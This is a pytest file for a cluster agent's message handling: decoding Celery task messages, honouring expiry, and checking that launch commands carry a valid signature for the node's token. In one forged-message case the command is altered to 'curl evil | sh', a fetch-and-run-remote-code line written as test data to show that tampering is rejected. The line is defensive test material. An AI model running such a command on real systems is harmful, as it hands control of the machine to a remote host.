"""Decoding Celery task messages (protocol 2 and 1) and honouring their expiry."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest

from cluster import protocol
from cluster.agent import messages


def test_decodes_protocol_2_and_1_messages():
    assert messages.decode_task({"task": "agent.launch"}, [[], {"a": 1}, {}]) == ("agent.launch", {"a": 1})
    assert messages.decode_task({}, {"task": "agent.kill", "args": [], "kwargs": {"b": 2}}) == ("agent.kill", {"b": 2})


@pytest.mark.parametrize(
    ("headers", "body", "field"),
    [
        ({}, [[], {}, {}], "task"),
        ({"task": "agent.launch"}, {"x": 1}, "body"),
        ({"task": "agent.launch"}, [["pos"], {}, {}], "args"),
        ({"task": "agent.launch"}, [[], ["not", "a", "dict"], {}], "kwargs"),
        ({"task": 3}, [[], {}, {}], "task"),
    ],
)
def test_rejects_messages_that_are_not_keyword_task_calls(headers, body, field):
    with pytest.raises(protocol.ProtocolError) as err:
        messages.decode_task(headers, body)
    assert err.value.field == field


def test_expiry_is_honoured_when_set():
    now = datetime(2030, 1, 1, tzinfo=timezone.utc)
    past, future = (now - timedelta(seconds=1)).isoformat(), (now + timedelta(seconds=1)).isoformat()
    assert messages.is_expired({"expires": past}, [], now)
    assert not messages.is_expired({"expires": future}, [], now)
    assert not messages.is_expired({"expires": None}, [], now)
    assert messages.is_expired({}, {"expires": "2029-12-31T23:59:59"}, now)  # naive = UTC
    with pytest.raises(protocol.ProtocolError, match="^expires"):
        messages.is_expired({"expires": "soon"}, [], now)


def test_only_a_command_signed_with_this_nodes_token_passes_and_a_tokenless_agent_takes_any() -> None:
    from cluster import message_signing

    kwargs = {"job_id": 7, "attempt": 1, "command": "true"}
    signed = message_signing.signed("n1-token", protocol.AGENT_LAUNCH, kwargs, 1.0)
    messages.check_signed("n1-token", protocol.AGENT_LAUNCH, signed)
    messages.check_signed("", protocol.AGENT_LAUNCH, kwargs)  # development stack: no token, nothing checked
    with pytest.raises(protocol.ProtocolError, match="carries no signature"):
        messages.check_signed("n1-token", protocol.AGENT_LAUNCH, kwargs)
    for forged in (message_signing.signed("n2-token", protocol.AGENT_LAUNCH, kwargs, 1.0),  # another node's
                   {**signed, "command": "curl evil | sh"},  # altered
                   {**signed, "run_as": "root"},  # a field added
                   message_signing.signed("n1-token", protocol.AGENT_KILL, kwargs, 1.0)):  # another command's
        with pytest.raises(protocol.ProtocolError, match="does not verify with this node's token"):
            messages.check_signed("n1-token", protocol.AGENT_LAUNCH, forged)


def test_signed_time_is_read_only_from_a_signed_command_and_orders_reconciles_after_launches() -> None:
    assert messages.signed_time({"signed_at": 5.0, "signature": "x"}) == 5.0
    for unsigned in ({"signed_at": 5.0}, {"signature": "x"}, {"signature": "x", "signed_at": "5"},
                     {"signature": "x", "signed_at": True}, {"signature": "x", "signed_at": float("nan")}):
        assert messages.signed_time(unsigned) is None
    reconcile_at_10 = {"signed_at": 10.0, "signature": "x"}
    assert messages.ordered_before(9.0, reconcile_at_10)
    assert not messages.ordered_before(10.0, reconcile_at_10) and not messages.ordered_before(11.0, reconcile_at_10)
    assert messages.ordered_before(None, reconcile_at_10) and messages.ordered_before(11.0, {"keep": []})
